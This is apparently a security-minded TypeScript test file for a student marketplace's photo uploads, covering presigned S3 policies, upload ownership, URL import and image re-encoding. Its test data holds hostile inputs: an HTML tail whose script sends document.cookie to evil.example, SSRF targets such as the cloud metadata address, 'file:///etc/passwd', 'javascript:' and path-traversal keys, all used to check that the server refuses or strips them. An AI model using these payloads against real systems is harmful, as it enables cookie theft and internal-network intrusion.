import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetObjectCommand, HeadObjectCommand, ListObjectsV2Command, type S3Client } from '@aws-sdk/client-s3';
import { createProductRepository } from '../../functions/adapters/dynamodb/products';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createProfileRepository } from '../../functions/adapters/dynamodb/accounts';
import type { TableAccess } from '../../functions/adapters/dynamodb/client';
import { createUniversityRepository } from '../../functions/adapters/dynamodb/universities';
import { resetContext } from '../../functions/app/context';
import { setHandlerContext } from '../support/callers';
import { ENV } from '../../functions/commons/env';
const createProduct = handlerOf('createProduct');
const createUpload = handlerOf('createUpload');
const importImageFromUrl = handlerOf('importImageFromUrl');
import { createRemoteImageFetcher } from '../../functions/adapters/http/fetch-image';
const deleteOwnProduct = handlerOf('deleteOwnProduct');
const listOwnProducts = handlerOf('listOwnProducts');
import type { Moderator } from '../../functions/ports/moderation';
import type { ModerationImage } from '#shared/moderation';
const checkListing = handlerOf('checkListing');
import {
  localS3Client,
  S3_LOCAL_CREDENTIALS,
  type S3Local,
  startS3Local,
} from '../../scripts/local/parts/s3';
import { freePort } from '../../scripts/local/ports';
import type { LocalServer } from '../../scripts/local/server';
import { startStaticOrigin } from '../support/static-origin';
import { uniqueUniversity, useTestTable } from '../support/backend';
import { apiEvent, invoke } from '../support/events';
import { MemorySearchIndex } from '../support/memory-search-index';
import { handlerOf } from '../support/handlers';

/**
 * Photos end to end against s3rver and DynamoDB Local: the presigned POST's policy, a real
 * browser-style multipart upload, and the server's own check of each upload before a product may
 * use it (s3rver ignores POST policies, so this check is what protects the local stack).
 */
const BUCKET = 'uploads-test';
const uni = uniqueUniversity('img');
let table: TableAccess;
let s3Local: S3Local;
let s3: S3Client;
const saved: Record<string, string | undefined> = {};
/** Approves everything, and keeps the photo each judgement was given (the model's view). */
const seen: (ModerationImage | undefined)[] = [];
const approve: Moderator = {
  moderate: async (_input, image) => {
    seen.push(image);
    return { approved: true, severity: 'low', warnings: [], suggestions: [] };
  },
};

const claims = (sub: string) => ({ sub, email: `${sub}@correo.com`, token_use: 'id' });
const errorOf = (body: unknown) => (body as { error: { message: string } }).error.message;
const exists = async (key: string) => {
  try {
    await s3.send(new HeadObjectCommand({ Bucket: BUCKET, Key: key }));
    return true;
  } catch {
    return false;
  }
};

async function verifiedStudent(sub: string) {
  const profiles = createProfileRepository(table);
  await profiles.createIfAbsent({
    user_id: sub,
    email: `${sub}@correo.com`,
    full_name: 'Ana',
    university_email: null,
    university_email_verified: false,
    university_id: null,
    created_at: new Date().toISOString(),
  });
  await profiles.setInstitutional(sub, `${sub}@est.${uni}.edu.ve`, uni, null);
}

/** Asks for a presigned POST and sends the file as a browser form does; the key. */
async function upload(sub: string, bytes: Buffer, contentType = 'image/webp', declaredSize = bytes.length) {
  const res = await invoke(
    createUpload,
    apiEvent('createUpload', {
      claims: claims(sub),
      body: { content_type: contentType, size: declaredSize },
    }),
  );
  expect(res.status).toBe(200);
  const { url, fields, key } = res.body as { url: string; fields: Record<string, string>; key: string };
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  form.append('file', new Blob([new Uint8Array(bytes)], { type: contentType }), 'foto');
  const posted = await fetch(url, { method: 'POST', body: form });
  expect(posted.status).toBeLessThan(300);
  return key;
}

const listing = (images: string[]) => ({
  title: 'Guitarra acústica',
  price: 80,
  category: 'musica',
  whatsapp_number: '04141234567',
  university_id: uni,
  images,
});
const publish = (sub: string, images: string[]) =>
  invoke(createProduct, apiEvent('createProduct', { claims: claims(sub), body: listing(images) }));
const ownCount = async (sub: string) =>
  (
    (await invoke(listOwnProducts, apiEvent('listOwnProducts', { claims: claims(sub) }))).body as {
      items: unknown[];
    }
  ).items.length;

/** Every published photo key in the bucket. */
const productKeys = async () =>
  ((await s3.send(new ListObjectsV2Command({ Bucket: BUCKET, Prefix: 'images/products/' }))).Contents ?? [])
    .map((o) => o.Key)
    .sort();

const photo = (width = 1200, height = 900) =>
  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 90, b: 160 } } })
    .webp()
    .toBuffer();

beforeAll(async () => {
  table = useTestTable();
  s3Local = await startS3Local({ port: await freePort(), buckets: [BUCKET] });
  s3 = localS3Client(s3Local.endpoint);
  for (const name of [
    ENV.imagesBucket,
    ENV.s3Endpoint,
    ENV.uploadEndpoint,
    'AWS_ACCESS_KEY_ID',
    'AWS_SECRET_ACCESS_KEY',
  ])
    saved[name] = process.env[name];
  Object.assign(process.env, {
    [ENV.imagesBucket]: BUCKET,
    [ENV.s3Endpoint]: s3Local.endpoint,
    [ENV.uploadEndpoint]: s3Local.endpoint,
    AWS_ACCESS_KEY_ID: S3_LOCAL_CREDENTIALS.accessKeyId,
    AWS_SECRET_ACCESS_KEY: S3_LOCAL_CREDENTIALS.secretAccessKey,
  });
  await createUniversityRepository(table).putIfAbsent({
    id: uni,
    name: 'IMG',
    full_name: 'Universidad de Imágenes',
    email_domain: `est.${uni}.edu.ve`,
    city: null,
    logo: null,
    created_at: '2025-01-01T00:00:00.000Z',
  });
});
beforeEach(() => setHandlerContext({ search: new MemorySearchIndex(), moderator: approve }));
afterAll(async () => {
  resetContext();
  for (const [k, v] of Object.entries(saved)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  s3?.destroy();
  await s3Local?.stop();
});

describe('presigned upload', () => {
  it("fixes the key under the user's prefix, the content type and the 5 MB limit in the policy", async () => {
    const res = await invoke(
      createUpload,
      apiEvent('createUpload', {
        claims: claims('pol-user'),
        body: { content_type: 'image/jpeg', size: 2_000_000 },
      }),
    );
    const { fields, key } = res.body as { fields: Record<string, string>; key: string };
    expect(key).toMatch(/^uploads\/pol-user\/[0-9a-f-]{36}\.jpg$/);
    const policy = JSON.parse(Buffer.from(fields.Policy, 'base64').toString('utf8')) as {
      expiration: string;
      conditions: unknown[];
    };
    expect(policy.conditions).toEqual(
      expect.arrayContaining([
        ['content-length-range', 1, 5 * 1024 * 1024],
        ['eq', '$Content-Type', 'image/jpeg'],
        { key },
        { bucket: BUCKET },
      ]),
    );
    const minutes = (Date.parse(policy.expiration) - Date.now()) / 60_000;
    expect(minutes).toBeGreaterThan(4);
    expect(minutes).toBeLessThanOrEqual(5);
  });

  it('refuses a non-image type, a size over 5 MB and extra fields with 400', async () => {
    for (const body of [
      { content_type: 'text/plain', size: 10 },
      { content_type: 'image/svg+xml', size: 10 },
      { content_type: 'image/webp', size: 6 * 1024 * 1024 },
      { content_type: 'image/webp', size: 10, key: 'uploads/otro/x.webp' },
    ]) {
      const res = await invoke(
        createUpload,
        apiEvent('createUpload', { claims: claims('bad-upload'), body }),
      );
      expect(res.status, JSON.stringify(body)).toBe(400);
    }
  });
});

describe('publishing with photos', () => {
  it("stores checked uploads as the product's photos, served under /images/products/, and deletes them with it", async () => {
    const sub = `photos-${Date.now()}`;
    await verifiedStudent(sub);
    const first = await upload(sub, await photo());
    const second = await upload(
      sub,
      await sharp({ create: { width: 800, height: 600, channels: 3, background: '#0a0' } })
        .jpeg()
        .toBuffer(),
      'image/jpeg',
    );
    seen.length = 0;
    const res = await publish(sub, [first, second]);
    expect(res.status).toBe(201);
    // Moderation looked at the first photo itself: its checked bytes, type from the bytes.
    expect(seen).toHaveLength(1);
    expect(seen[0]?.type).toBe('image/webp');
    expect(
      Buffer.from(seen[0]?.bytes ?? [])
        .subarray(0, 4)
        .toString('latin1'),
    ).toBe('RIFF');
    const product = res.body as { id: number; image: string; images: string[] };
    expect(product.images).toEqual([
      `/images/products/${product.id}/1.webp`,
      `/images/products/${product.id}/2.jpg`,
    ]);
    expect(product.image).toBe(product.images[0]);
    expect(await exists(`images/products/${product.id}/1.webp`)).toBe(true);
    expect(await exists(`images/products/${product.id}/2.jpg`)).toBe(true);
    // The raw uploads are gone once adopted.
    expect(await exists(first)).toBe(false);

    const del = await invoke(
      deleteOwnProduct,
      apiEvent('deleteOwnProduct', { claims: claims(sub), params: { id: product.id } }),
    );
    expect(del.status).toBe(200);
    expect(await exists(`images/products/${product.id}/1.webp`)).toBe(false);
    expect(await exists(`images/products/${product.id}/2.jpg`)).toBe(false);
  });

  it('refuses a text file named .jpg, a 6 MB file, an oversized-pixel image, and stores nothing', async () => {
    const sub = `refused-${Date.now()}`;
    await verifiedStudent(sub);
    const text = await upload(sub, Buffer.from('esto no es una foto, aunque diga .jpg'), 'image/jpeg');
    // s3rver ignores the policy's size limit: the server's check must catch it.
    const big = Buffer.concat([await photo(), Buffer.alloc(6 * 1024 * 1024)]);
    const bigKey = await upload(sub, big, 'image/webp', 1000);
    const huge = await upload(
      sub,
      await sharp({ create: { width: 6000, height: 200, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
      'image/png',
    );
    const cases: [string, string][] = [
      [text, 'El archivo debe ser una imagen'],
      [bigKey, 'La imagen no debe superar los 5MB'],
      [huge, 'La imagen es demasiado grande (máximo 4096 × 4096 píxeles)'],
    ];
    for (const [key, message] of cases) {
      const res = await publish(sub, [key]);
      expect(res.status, key).toBe(400);
      expect(errorOf(res.body)).toBe(message);
    }
    expect(await ownCount(sub)).toBe(0);
  });

  it('leaves nothing half-written when the product cannot be stored: no copies, the upload kept for a retry', async () => {
    const sub = `halfway-${Date.now()}`;
    await verifiedStudent(sub);
    const key = await upload(sub, await photo());
    const real = createProductRepository(table);
    setHandlerContext({
      search: new MemorySearchIndex(),
      moderator: approve,
      // The table refuses the product write (throttled, down): every step before it succeeded.
      products: { ...real, publish: async () => Promise.reject(new Error('ProvisionedThroughputExceeded')) },
    });
    const before = await productKeys();
    const res = await publish(sub, [key]);
    expect(res.status).toBe(500);
    expect(await productKeys()).toEqual(before);
    expect(await exists(key)).toBe(true);
    expect(await ownCount(sub)).toBe(0);

    // The retry, once the table answers again, publishes with the same upload.
    setHandlerContext({ search: new MemorySearchIndex(), moderator: approve });
    expect((await publish(sub, [key])).status).toBe(201);
  });

  it("refuses another user's upload with 403, a missing one and a malformed key with 400", async () => {
    const owner = `owner-${Date.now()}`;
    const thief = `thief-${Date.now()}`;
    await verifiedStudent(thief);
    const theirs = await upload(owner, await photo());
    const stolen = await publish(thief, [theirs]);
    expect(stolen.status).toBe(403);
    expect(errorOf(stolen.body)).toBe('La imagen no pertenece a tu cuenta');
    // Nor can another user's photo be shown to the content check.
    const peek = await invoke(
      checkListing,
      apiEvent('checkListing', {
        claims: claims(thief),
        body: { title: 'Guitarra', price: 10, category: 'musica', image_key: theirs },
      }),
    );
    expect(peek.status).toBe(403);
    expect(await exists(theirs)).toBe(true);

    const missing = await publish(thief, [`uploads/${thief}/00000000-0000-4000-8000-000000000000.webp`]);
    expect(missing.status).toBe(400);
    for (const key of ['../products/1/1.webp', `uploads/${thief}/x.exe`, 'https://evil.example/a.jpg']) {
      expect((await publish(thief, [key])).status, key).toBe(400);
    }
    expect(await ownCount(thief)).toBe(0);
  });
});

describe('a photo given by URL', () => {
  let server: Server;
  let origin = '';
  let webp: Buffer;

  beforeAll(async () => {
    webp = await photo(640, 480);
    server = createServer((req, res) => {
      if (req.url === '/foto.webp') return res.writeHead(200, { 'content-type': 'image/webp' }).end(webp);
      if (req.url === '/texto.jpg')
        return res.writeHead(200, { 'content-type': 'image/jpeg' }).end('no soy una foto');
      if (req.url === '/enorme.webp') return res.writeHead(200).end(Buffer.alloc(6 * 1024 * 1024));
      if (req.url === '/vuelta') return res.writeHead(302, { location: '/vuelta' }).end();
      res.writeHead(404).end();
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((done) => server.close(() => done())));

  const importUrl = (sub: string, url: string) =>
    invoke(importImageFromUrl, apiEvent('importImageFromUrl', { claims: claims(sub), body: { url } }));

  it("stores a fetched photo as the caller's upload, checked by its bytes, usable to publish", async () => {
    // The test server is local: only here may the fetcher use plain http and a private address.
    setHandlerContext({
      search: new MemorySearchIndex(),
      moderator: approve,
      remoteImages: createRemoteImageFetcher({ maxBytes: 5 * 1024 * 1024, allowInsecureForTests: true }),
    });
    const sub = `url-${Date.now()}`;
    await verifiedStudent(sub);
    const res = await importUrl(sub, `${origin}/foto.webp`);
    expect(res.status).toBe(200);
    const { key } = res.body as { key: string };
    expect(key).toMatch(new RegExp(`^uploads/${sub}/[0-9a-f-]{36}\\.webp$`));
    const published = await publish(sub, [key]);
    expect(published.status).toBe(201);

    for (const [path, message] of [
      ['/texto.jpg', 'El archivo debe ser una imagen'],
      ['/enorme.webp', 'La imagen no debe superar los 5MB'],
      ['/vuelta', 'El enlace redirige demasiadas veces'],
      ['/nada.webp', 'El enlace respondió 404'],
    ]) {
      const refused = await importUrl(sub, `${origin}${path}`);
      expect(refused.status, path).toBe(400);
      expect(errorOf(refused.body)).toBe(message);
    }
  });

  it('never reaches inside the network with the real fetcher, and refuses what is not a URL', async () => {
    const sub = `ssrf-${Date.now()}`;
    for (const url of [
      `${origin}/foto.webp`,
      'https://127.0.0.1/foto.webp',
      'https://169.254.169.254/latest/meta-data',
    ]) {
      const res = await importUrl(sub, url);
      expect(res.status, url).toBe(400);
    }
    for (const url of [
      'file:///etc/passwd',
      'no es un enlace',
      'javascript:alert(1)',
      `https://x.example/${'a'.repeat(2100)}`,
    ]) {
      const res = await importUrl(sub, url);
      expect(res.status, url).toBe(400);
      expect(errorOf(res.body)).toBe('El enlace de la imagen no es válido');
    }
  });
});

/**
 * Issue 25, item 8: a real image with something else in it — a page appended after its end, the
 * seller's phone's EXIF (a GPS position) — must not be served as it came. What is stored (and
 * served by the local origin's /images/*) is the server's own encoding of the decoded pixels.
 */
describe("a photo with a page appended, or a phone's GPS position in it", () => {
  let server: LocalServer;
  let webDir: string;
  const TAIL = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
  /** EXIF as a phone writes it: where the photo was taken, and a description. */
  const EXIF = {
    IFD0: { ImageDescription: 'Casa de Ana, Los Chaguaramos' },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '10/1 29/1 5/1',
      GPSLongitudeRef: 'W',
      GPSLongitude: '66/1 53/1 2/1',
    },
  };
  /** The EXIF IFD0 entry pointing at the GPS block (tag 0x8825), in either byte order. */
  const hasGpsTag = (exif: Buffer | undefined) =>
    !!exif && (exif.includes(Buffer.from([0x25, 0x88])) || exif.includes(Buffer.from([0x88, 0x25])));

  beforeAll(async () => {
    webDir = mkdtempSync(join(tmpdir(), 'uploads-origin-'));
    server = await startStaticOrigin(webDir, { images: { s3, bucket: BUCKET } });
  });
  afterAll(async () => {
    await server?.close();
    if (webDir) rmSync(webDir, { recursive: true, force: true });
  });

  const stored = async (path: string) => {
    const res = await s3.send(new GetObjectCommand({ Bucket: BUCKET, Key: path.slice(1) }));
    return { bytes: Buffer.from(await res.Body!.transformToByteArray()), type: res.ContentType };
  };

  for (const [format, type] of [
    ['jpeg', 'image/jpeg'],
    ['png', 'image/png'],
    ['webp', 'image/webp'],
  ] as const) {
    it(`serves a ${format.toUpperCase()} with an HTML tail and EXIF GPS without either (no uploaded byte is served as it came)`, async () => {
      const sub = `polyglot-${format}-${Date.now()}`;
      await verifiedStudent(sub);
      const image = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#c63' } })
        .withExif(EXIF)
        .toFormat(format)
        .toBuffer();
      expect(hasGpsTag((await sharp(image).metadata()).exif)).toBe(true);
      const polyglot = Buffer.concat([image, Buffer.from(TAIL)]);
      const key = await upload(sub, polyglot, type);

      const res = await publish(sub, [key]);
      expect(res.status).toBe(201);
      const path = (res.body as { images: string[] }).images[0];
      const { bytes, type: storedType } = await stored(path);
      const served = await fetch(`${server.url}${path}`);
      expect(served.status).toBe(200);
      expect(served.headers.get('content-type')).toBe(type);
      const servedBytes = Buffer.from(await served.arrayBuffer());
      expect(servedBytes.equals(bytes)).toBe(true);

      for (const b of [bytes, servedBytes]) {
        expect(b.includes('<script')).toBe(false);
        expect(b.includes('<html')).toBe(false);
        expect(b.includes('Chaguaramos')).toBe(false);
        const meta = await sharp(b).metadata();
        expect(meta.format).toBe(format);
        expect(meta.exif).toBeUndefined();
        expect([meta.width, meta.height]).toEqual([640, 480]);
      }
      expect(storedType).toBe(type);
      expect(bytes.equals(polyglot)).toBe(false);
    });
  }

  it('stores a phone photo taken sideways upright, without its orientation tag', async () => {
    const sub = `sideways-${Date.now()}`;
    await verifiedStudent(sub);
    // 300×200 as the sensor wrote it, left half red, right half blue; EXIF orientation 6 says
    // "turn 90° clockwise to view": upright it is 200×300, red on top.
    const sensor = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#00f' } })
      .composite([
        { input: { create: { width: 150, height: 200, channels: 3, background: '#f00' } }, left: 0, top: 0 },
      ])
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect((await sharp(sensor).metadata()).orientation).toBe(6);
    const res = await publish(sub, [await upload(sub, sensor, 'image/jpeg')]);
    expect(res.status).toBe(201);
    const product = res.body as {
      images: string[];
      image_variants: Record<string, { width: number; height: number }>;
    };
    const { bytes } = await stored(product.images[0]);
    const meta = await sharp(bytes).metadata();
    expect([meta.width, meta.height, meta.orientation]).toEqual([200, 300, undefined]);
    expect(product.image_variants[product.images[0]]).toMatchObject({ width: 200, height: 300 });
    const { data } = await sharp(bytes).raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => [...data.subarray((y * 200 + x) * 3, (y * 200 + x) * 3 + 3)];
    const [top, bottom] = [pixel(100, 40), pixel(100, 260)];
    expect(top[0]).toBeGreaterThan(200);
    expect(top[2]).toBeLessThan(60);
    expect(bottom[2]).toBeGreaterThan(200);
    expect(bottom[0]).toBeLessThan(60);
  });
});
